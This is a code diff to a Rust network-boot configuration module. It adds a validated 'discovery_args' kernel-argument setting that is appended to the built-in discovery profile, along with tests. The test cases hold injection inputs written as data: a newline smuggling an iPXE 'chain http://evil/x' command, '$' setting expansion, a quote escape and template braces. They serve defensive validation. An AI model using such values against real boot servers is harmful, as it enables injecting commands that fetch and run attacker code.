@@ -15,6 +15,9 @@ pub struct WireBoot {
     pub shim: String,
     pub arm64: String,
     pub discovery_profile: String,
+    /// Kernel arguments added to the built-in discovery profile's command lines (both
+    /// architectures): a serial console, `norandmaps` for emulated labs.
+    pub discovery_args: String,
     pub profiles: Vec<WireProfile>,
     pub templates: PathBuf,
 }
@@ -29,6 +32,7 @@ impl Default for WireBoot {
             shim: "shimx64.efi".into(),
             arm64: "shimaa64.efi".into(),
             discovery_profile: "discovery".into(),
+            discovery_args: String::new(),
             profiles: Vec::new(),
             templates: PathBuf::new(),
         }
@@ -167,11 +171,56 @@ impl TryFrom<WireProfile> for Profile {
     }
 }
 
+/// The longest `boot.discovery_args`.
+const MAX_KERNEL_ARGS: usize = 512;
+
+/// Refuses kernel arguments that could be more than arguments where the command line lands:
+/// an iPXE script (`$` expands settings, a line break starts a command), a GRUB config (quotes,
+/// `;`), the template engine (`{`).
+fn check_kernel_args(args: &str) -> anyhow::Result<()> {
+    anyhow::ensure!(args.len() <= MAX_KERNEL_ARGS, "boot.discovery_args is longer than {MAX_KERNEL_ARGS} bytes");
+    let bad = args.chars().find(|c| !(c.is_ascii_alphanumeric() || " =,._:/+-@%".contains(*c)));
+    anyhow::ensure!(
+        bad.is_none(),
+        "boot.discovery_args: {:?} is not allowed (kernel arguments: letters, digits, spaces and = , . _ : / + - @ %)",
+        bad.unwrap_or_default()
+    );
+    Ok(())
+}
+
+/// `profile` with `args` after its command lines (both architectures').
+fn with_args(mut profile: Profile, args: &str) -> Profile {
+    let args = args.trim();
+    if args.is_empty() {
+        return profile;
+    }
+    let add = |cmdline: &mut String| {
+        cmdline.push(' ');
+        cmdline.push_str(args);
+    };
+    add(&mut profile.cmdline);
+    if let Some(cmdline) = profile.arm64.as_mut().and_then(|a| a.cmdline.as_mut()) {
+        add(cmdline);
+    }
+    profile
+}
+
 impl BootFiles {
     /// Validates `[boot]`; returns it with the template directory (`None`: the embedded ones).
     pub fn from_wire(w: WireBoot) -> anyhow::Result<(Self, Option<PathBuf>)> {
-        let WireBoot { bios, uefi_x64, uefi_x64_snp, uefi_loader, shim, arm64, discovery_profile, profiles, templates } =
-            w;
+        let WireBoot {
+            bios,
+            uefi_x64,
+            uefi_x64_snp,
+            uefi_loader,
+            shim,
+            arm64,
+            discovery_profile,
+            discovery_args,
+            profiles,
+            templates,
+        } = w;
+        check_kernel_args(&discovery_args)?;
         anyhow::ensure!(
             !shim.is_empty() && !shim.contains('/') && shim != GRUB_EFI,
             "boot.shim {shim:?} must be a file name at the top of the boot directory (shim loads {GRUB_EFI} from beside it)"
@@ -189,8 +238,13 @@ impl BootFiles {
         }
         // The built-in discovery profile, unless the config defines its own.
         if !by_name.contains_key("discovery") {
-            let d = builtin_discovery();
+            let d = with_args(builtin_discovery(), &discovery_args);
             by_name.insert(d.name.clone(), d);
+        } else {
+            anyhow::ensure!(
+                discovery_args.is_empty(),
+                "boot.discovery_args adds to the built-in discovery profile, but [[boot.profiles]] defines \"discovery\" itself: put the arguments in its cmdline"
+            );
         }
         anyhow::ensure!(
             by_name.contains_key(&discovery_profile),
@@ -212,7 +266,15 @@ mod tests {
         assert_eq!(cfg.boot.profiles["discovery"].kernel, "bootos/vmlinuz");
         let win = Config::parse("[[boot.profiles]]\nname=\"win\"\nwindows=\"w2022\"").unwrap();
         assert_eq!(win.boot.profiles["win"].windows.as_deref(), Some("w2022"));
-        let cases = [
+        // Arguments for the built-in profile land after both architectures' command lines.
+        let args = Config::parse("[boot]\ndiscovery_args = \" console=ttyS1,115200n8 norandmaps \"").unwrap();
+        let (d, builtin) = (&args.boot.profiles["discovery"], super::builtin_discovery());
+        assert_eq!(d.cmdline, format!("{} console=ttyS1,115200n8 norandmaps", builtin.cmdline));
+        assert_eq!(
+            d.arm64.as_ref().and_then(|a| a.cmdline.clone()),
+            builtin.arm64.and_then(|a| a.cmdline).map(|c| c + " console=ttyS1,115200n8 norandmaps")
+        );
+        let cases: [(&str, &str); 13] = [
             ("[[boot.profiles]]\nname=\"a b\"\nkernel=\"k\"\ninitrd=\"i\"", "letters, digits"),
             ("[[boot.profiles]]\nname=\"x\"\nkernel=\"\"\ninitrd=\"i\"", "required"),
             ("[[boot.profiles]]\nname=\"x\"\nkernel=\"k\"\ninitrd=\"i\"\nanswer=\"msi\"", "answer"),
@@ -220,6 +282,15 @@ mod tests {
             ("[[boot.profiles]]\nname=\"w\"\nwindows=\"a/b\"", "windows media name"),
             ("[[boot.profiles]]\nname=\"w\"\nwindows=\"unattend\"", "windows media name"),
             ("[[boot.profiles]]\nname=\"w\"\nwindows=\"w2022\"\nkernel=\"k\"", "left out"),
+            ("[boot]\ndiscovery_args = \"console=ttyS1 ${net0/ip}\"", "'$' is not allowed"),
+            ("[boot]\ndiscovery_args = \"quiet\\nchain http://evil/x\"", "'\\n' is not allowed"),
+            ("[boot]\ndiscovery_args = \"a\\\"b\"", "is not allowed"),
+            ("[boot]\ndiscovery_args = \"{{ mac }}\"", "'{' is not allowed"),
+            (&format!("[boot]\ndiscovery_args = \"{}\"", "a".repeat(513)), "longer than 512"),
+            (
+                "[boot]\ndiscovery_args = \"quiet\"\n[[boot.profiles]]\nname=\"discovery\"\nkernel=\"k\"\ninitrd=\"i\"",
+                "defines \"discovery\" itself",
+            ),
         ];
         for (text, want) in cases {
             let err = format!("{:#}", Config::parse(text).unwrap_err());
